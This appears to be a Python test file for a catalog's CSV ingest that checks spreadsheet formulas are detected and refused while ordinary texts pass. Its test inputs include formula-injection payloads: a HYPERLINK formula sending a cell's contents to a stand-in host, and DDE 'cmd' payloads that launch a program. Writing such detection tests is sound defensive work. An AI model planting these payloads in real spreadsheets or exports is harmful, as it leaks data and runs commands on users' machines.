"""Formulas are refused, texts that only begin like one are not."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from catalog.ingest.formats.csv import CsvFormat
from catalog.ingest.tables.formulas import is_formula, undisguised
from catalog.text import disarmed
from tests.tables import read


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "=1+1",
        "=A1",
        " =1+1",
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "@sum(A1:A9)",
        "+SUM(A1:A9)",
        "+A1+B2",
        "+1+1",
        "+=1+1",
        '="00123"',
        "=-1",
    ],
)
def test_formulas_are_known(text: str) -> None:
    assert is_formula(text)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "-",
        "--",
        "=",
        "===",
        "-5 °C",
        "-1956-10-30",
        "+39 06 6840",
        "+39-06-6840",
        "+49/30/1234",
        "@handle",
        "@archivio (Twitter)",
        "- Letter(s) from Rome",
        "-lettera(e) a Tito",
        "= Kopie",
        "–",
        "Togliatti = Ercoli",
        "1+1",
        "…",
    ],
)
def test_ordinary_texts_are_none(text: str) -> None:
    assert not is_formula(text)


def test_a_formula_is_refused_with_its_row_and_column_and_the_remedy() -> None:
    _drafts, findings = read(CsvFormat(), "title,note\nCable,=1+1\n")
    (refused,) = findings
    assert (refused.severity, refused.where.line, refused.where.part) == ("error", 2, "note")
    assert refused.value == "=1+1" and "apostrophe" in refused.remedy


def test_a_text_behind_an_apostrophe_is_taken_as_it_is() -> None:
    drafts, findings = read(CsvFormat(), "title,note\n'=1+1,'-5 °C\n")
    assert not findings
    assert drafts[0].fields["title"] == "=1+1"
    assert drafts[0].fields["note"] == "-5 °C"


@given(st.text(max_size=20).filter(lambda text: not text.startswith("'")))
def test_what_our_own_tables_disarm_is_read_back(text: str) -> None:
    assert undisguised(disarmed(text)) == text
